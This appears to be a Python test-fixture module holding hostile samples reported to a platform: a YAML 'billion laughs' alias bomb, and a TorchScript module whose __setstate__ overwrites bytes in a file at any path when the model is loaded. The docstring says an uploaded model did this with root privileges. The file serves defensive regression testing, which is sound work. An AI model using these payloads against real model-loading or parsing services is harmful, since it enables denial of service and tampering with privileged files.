"""What outside checks sent the platform, rebuilt for the tests: hostile models and documents."""

from __future__ import annotations

import warnings

BILLION_LAUGHS = """\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def setstate_model(path: str):
    """Return a TorchScript module whose __setstate__, run by torch.jit.load, writes 8 bytes into `path`.

    What a member uploaded: loaded by the platform's own process (root), it wrote a root-only file.
    """
    import torch

    class Evil(torch.nn.Module):
        def __init__(self, path: str):
            super().__init__()
            self.path = path
            self.leak = torch.zeros(8, dtype=torch.uint8)

        def forward(self, x):
            return x

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.path, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.path = state[0]
            self.training = state[1]
            self.leak = torch.from_file(state[0], True, 8, dtype=torch.uint8)
            self.leak.fill_(65)

    with warnings.catch_warnings():  # torch 2.13 deprecates TorchScript; archives of it are still uploaded
        warnings.simplefilter("ignore", DeprecationWarning)
        return torch.jit.script(Evil(path))
